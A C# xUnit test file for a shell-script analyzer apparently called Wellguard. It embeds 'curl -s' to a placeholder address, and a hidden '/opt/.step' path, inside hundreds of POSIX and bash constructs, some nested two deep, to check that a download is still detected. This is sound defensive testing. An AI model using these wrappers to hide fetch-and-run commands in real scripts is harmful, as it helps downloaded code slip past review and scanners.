using Wellguard.Programs;
using Wellguard.Programs.Shell;
using Xunit;

namespace Wellguard.Tests.Programs.Shell;

/// <summary>
/// A command put into every construct of the shell grammar, alone and two deep, is found. Only texts that the shell itself accepts (<c>sh -n</c>, <c>bash -n</c>) count.
/// </summary>
public sealed class ShellGrammarTests
{
    private const string Address = "http://198.51.100.7/step";

    /// <summary>@ is a command or a list of commands, # numbers names apart. Valid for every POSIX shell.</summary>
    private static readonly string[] Posix =
    [
        "@", "@ &", "@; true", "true; @", "true && @", "false || @", "true &\n@", "@ && true", "@ || true", "! @", "{ @; }", "( @ )", "(@)", "{\n@\n}",
        "if @; then :; fi", "if true; then @; fi", "if true\nthen\n  @\nfi", "if false; then :; elif true; then @; fi", "if false; then :; elif @; then :; fi", "if false; then :; else @; fi",
        "if [ -n \"$FOO\" ]; then @; fi", "[ -n \"$FOO\" ] && @", "[ -z \"$FOO\" ] || @", "test -e /x; @", "[ \"$a\" = \"]\" ] && @",
        "while true; do @; done", "until false; do @; done", "while @; do break; done", "while true\ndo\n@\nbreak\ndone", "for i in 1 2; do @; done", "for i in a b\ndo @\ndone", "for i\ndo @\ndone", "for i do @; done",
        "case x in x) @;; esac", "case x in (x) @;; esac", "case x in a|b) :;; *) @;; esac", "case \"$1\" in\n  start)\n    @\n    ;;\n  *)\n    :\n    ;;\nesac", "case x in x) @\nesac", "case $(@) in *) :;; esac", "case x in \")\") :;; *) @;; esac",
        "f#() { @; }; f#", "f#() ( @ ); f#", "f# ( ) { @; }\nf#", "f#()\n{\n@\n}\nf# a b", "f#() if true; then @; fi; f#", "f#() { @; } > /dev/null; f#",
        "x=$(@)", "x=`true`; @", "echo \"a $(@) b\"", ": ${x:-$(@)}", ": \"${x:-it's}\"; @; echo 'x'", ": ${x:+$(@)}", ": ${x#$(@)}", ": ${x:?$(@)}", "y=1; : ${y:-$(@)}", "echo $((1 + $(@)))", "echo $(( (1 + 2) * 3 )); @", "echo $((x<<2)) && @",
        "cat <<E#\ntext ) } fi done esac\nE#\n@", "cat <<'E#'\n\"$( ` unclosed\nE#\n@", "cat <<-E#\n\ttext\n\tE#\n@", "cat <<E# && @\ntext\nE#", "cat <<A# <<B#\n1\nA#\n2\nB#\n@", "cat <<E#\n$(@)\nE#",
        "true \\\n  && @", "true # it's a \" comment ) }\n@", "# comment \\\n@", "echo a#b; @", "echo \\# ; @", "echo '#' ; @", "echo 'it'\\''s'; @", "echo \"a\\\"b\"; @", "echo \\\"; @",
        ">/dev/null true; @", "A=1 B=\"2 3\" true; @", "true >/dev/null 2>&1; @", "true 2>&- <&-; @", "echo done fi esac; @", "echo { } ! if; @", "{ true; } >/dev/null 2>&1 && @", "( true ) | { @; }", "true | @ | true", "@ | cat", "set -e; @", "eval '@'", "trap '@' EXIT",
        "exec >/dev/null; @", "echo $1 $@ $# $? $$ $! ${#x} ${1#-}; @", "\n\n;@".Replace(";", "", StringComparison.Ordinal), "true;\n\n@", "((true); @)", "( (true) ; (@) )",
    ];

    /// <summary>Valid for bash only.</summary>
    private static readonly string[] Bash =
    [
        "[[ -n $FOO ]] && @", "[[ -n $FOO ]]; @", "[[ -z $FOO ]] || @", "if [[ $a == b ]]; then @; fi", "while [[ 1 ]]; do @; done", "until [[ -e /x ]]; do @; done", "[[ $a =~ ^(x|y z)+$ ]] && @", "[[ $a == @(x|y)* ]] && @", "[[ ( $a == b || -e c ) && ! -d e ]] && @",
        "[[ $a == b &&\n  $c == d\n]] && @", "[[ $a < b ]]; @", "[[ $a > b ]]; @", "[[ -n $(@) ]]", "[[ $a == \"]]\" ]]; @", "! [[ -e /x ]] && @", "[[ -e /x ]] && { @; }", "{ [[ -e /x ]]; @; }", "( [[ -e /x ]] ; @ )", "[[ $x =~ [[:space:]]*(a|b) ]]; @", "[[ -v x ]] && [[ -o errexit ]] || @", "[[ x ]] & @", "[[ x ]] | @",
        "(( x > 1 )) && @", "((x++)); @", "(( x = $(@) ))", "((x=(1+2)*3)) || @", "if ((1)); then @; fi", "while ((i++ < 3)); do @; done", "for ((i=0; i<3; i++)); do @; done", "for (( i = 0 ; i < 3 ; i++ ))\ndo\n@\ndone", "for ((;;)) { @; break; }", "for i in 1 2; { @; }", "((a[1] > 2)) ; @", "(( $(echo 1) )) ; @",
        "select i in a b; do @; break; done", "time @", "time -p @", "! time @", "coproc @", "coproc N# { @; }", "coproc { @; }", "coproc N# while true; do @; done",
        "a=(1 2 \"3 4\"); @", "a=(\n 1 # )\n 2\n)\n@", "a+=(x); @", "a[1]=x; @", "a[$(@)]=x", "declare -a b=(1 2); @", "declare -A m=([a]=1 [\"b c\"]=2); @", "a=($(@))", "echo ${a[@]} ${a[$(@)]}", "echo \"${a[@]:1:2}\"; @", "local_=1; @",
        "x=$'it\\'s'; @", "echo $'\\x41' $\"b\"; @", "echo {a,b}{1..3}; @", "cat <<<text; @", "cat <<< \"$(@)\"", "cat < <(@)", "tee >(@) </dev/null", "true &>/dev/null; @", "true &>>/dev/null && @", "true |& @", "exec {fd}>/dev/null; @",
        "case x in x) true;& y) @;; esac", "case x in x) true;;& *) @;; esac", "case x in @(a|b)) :;; *) @;; esac", "function f# { @; }; f#", "function f#() { @; }; f#", "function f# ( @ ); f#", "function f#-x.y { @; }; f#-x.y", "f+#() { @; }; f+#",
        "echo ${x//a/$(@)}", "echo ${x/\\//}; @", "echo ${x@Q}; @", "echo ${!x}; @", "echo ${x^^} ${x,}; @", "echo $[1+1]; @", "echo $[$(@)]", "let x=1+2; @", "echo $(( 16#ff )) ; @", "shopt -s extglob\nls !(a|b) +(c); @", "echo \"$(echo \"$(echo \")\")\")\"; @", "x=\"${x:-\"a b\"}\"; @", "true 2> >(@)", "trap '@' DEBUG", "[[ a ]] <<E#\nx\nE#\n@",
    ];

    private static bool Finds(string text)
    {
        var analysis = new Analysis();
        return Found(ShellEvaluator.Evaluate(text, 1, analysis));
    }

    private static bool Found(IEnumerable<Effect> effects) => effects.Any(effect => (effect.Kind == EffectKind.Download && effect.Object == Address) || Found(effect.Steps));

    private static string Put(string form, string command, int number) => form.Replace("#", "§", StringComparison.Ordinal).Replace("@", "\u0001", StringComparison.Ordinal)
        .Replace("E§", "E" + number, StringComparison.Ordinal).Replace("A§", "A" + number, StringComparison.Ordinal).Replace("B§", "B" + number, StringComparison.Ordinal).Replace("f§", "f" + number, StringComparison.Ordinal).Replace("f+§", "f+" + number, StringComparison.Ordinal).Replace("N§", "N" + number, StringComparison.Ordinal)
        .Replace("§", "#", StringComparison.Ordinal).Replace("$\u0001", "$@", StringComparison.Ordinal).Replace("[\u0001]", "[@]", StringComparison.Ordinal).Replace("\u0001(", "@(", StringComparison.Ordinal).Replace("x\u0001Q", "x@Q", StringComparison.Ordinal).Replace("\u0001", command, StringComparison.Ordinal);

    [Fact]
    public void A_command_is_found_in_every_construct() => AssertFound("bash", [.. Posix.Concat(Bash).Select(form => Put(form, "curl -s " + Address, 1))]);

    [Fact]
    public void A_command_is_found_in_every_construct_of_a_posix_shell() => AssertFound("sh", [.. Posix.Select(form => "#!/bin/sh\n" + Put(form, "curl -s " + Address, 1))]);

    [Fact]
    public void A_command_is_found_in_every_construct_in_every_construct() =>
        AssertFound("bash", [.. Posix.Concat(Bash).SelectMany(outer => Posix.Concat(Bash).Where(inner => !(outer.Contains("'@'", StringComparison.Ordinal) && inner.Contains('\'', StringComparison.Ordinal)) && !(outer.Contains("&& @\ntext", StringComparison.Ordinal) && inner.Contains('\n', StringComparison.Ordinal))).Select(inner => Put(outer, Put(inner, "curl -s " + Address, 1), 2)))]);

    [Fact]
    public void A_command_behind_every_construct_is_found() =>
        AssertFound("bash", [.. Posix.Concat(Bash).SelectMany(form => new[] { "\n", "; " }.Select(join => Put(form, "true", 1) + join + "curl -s " + Address))]);

    [Theory]
    [InlineData("{fd}</dev/null curl -s ADDRESS")]
    [InlineData("<<E curl -s ADDRESS\nx\nE")]
    [InlineData("A=$(true) 2>/dev/null >&2 B=1 curl -s ADDRESS")]
    [InlineData("a[0]=1 curl -s ADDRESS")]
    [InlineData("\ncurl -s ADDRESS # }")]
    public void A_command_behind_redirections_and_assignments_is_found(string text) => Assert.True(Finds(text.Replace("ADDRESS", Address, StringComparison.Ordinal)));

    /// <summary>Shells without <c>[[</c> and <c>((</c> read on as commands.</summary>
    [Theory]
    [InlineData("[[ a ; curl -s ADDRESS")]
    [InlineData("[[ a || curl -s ADDRESS")]
    [InlineData("[[ a || curl -s ADDRESS ]]")]
    [InlineData("[[ a | curl -s ADDRESS")]
    [InlineData("[[ a &\ncurl -s ADDRESS")]
    [InlineData("[[\ncurl -s ADDRESS")]
    [InlineData("[[ a\ncurl -s ADDRESS\n]]")]
    [InlineData("if [[ a; then :; else curl -s ADDRESS; fi")]
    [InlineData("((curl -s ADDRESS))")]
    [InlineData("(( curl -s ADDRESS; true ))")]
    [InlineData("echo $((curl -s ADDRESS); echo x)")]
    [InlineData("x=$( (curl -s ADDRESS) )")]
    [InlineData("[[ a || (curl -s ADDRESS)")]
    public void What_is_no_expression_is_commands(string text) => Assert.True(Finds(text.Replace("ADDRESS", Address, StringComparison.Ordinal)));

    [Fact]
    public void A_path_behind_or_starts_in_a_shell_without_the_form() =>
        Assert.Contains(ShellEvaluator.Evaluate("[[ a || /opt/.step ]]", 1, new Analysis()), effect => effect is { Kind: EffectKind.Execute, Object: "/opt/.step" });

    [Theory]
    [InlineData("[[ $a == b || -e c ]]")]
    [InlineData("[[ $a =~ ^(sh|bash)$ ]]")]
    [InlineData("(( curl = 1, wget++ ))")]
    public void An_expression_runs_nothing(string text) => Assert.Empty(ShellEvaluator.Evaluate(text, 1, new Analysis()));

    private static void AssertFound(string shell, List<string> texts)
    {
        var missed = texts.Where(text => !Finds(text)).ToList();
        var invalid = Refused(shell, missed);
        var wrong = missed.Where((_, index) => !invalid.Contains(index)).ToList();
        Assert.True(wrong.Count == 0, $"{wrong.Count} of {texts.Count} missed:\n" + string.Join("\n---\n", wrong.Take(40)));
    }

    /// <summary>Indexes of the texts that the shell does not parse: one shell asks about all of them.</summary>
    private static HashSet<int> Refused(string shell, List<string> texts)
    {
        if (texts.Count == 0)
        {
            return [];
        }

        using var folder = new TempFolder();
        for (var i = 0; i < texts.Count; i++)
        {
            folder.Write($"{i}.sh", texts[i] + "\n");
        }

        var options = shell == "bash" ? "-O extglob -n" : "-n";
        var said = Tool.RunIn(folder.Path, "bash", "-c", $"for f in *.sh; do /bin/{shell} {options} $f 2>$f.err || echo ${{f%.sh}}; [ -s $f.err ] && echo ${{f%.sh}}; done; true");
        return [.. Tool.Lines(said).Select(int.Parse)];
    }
}
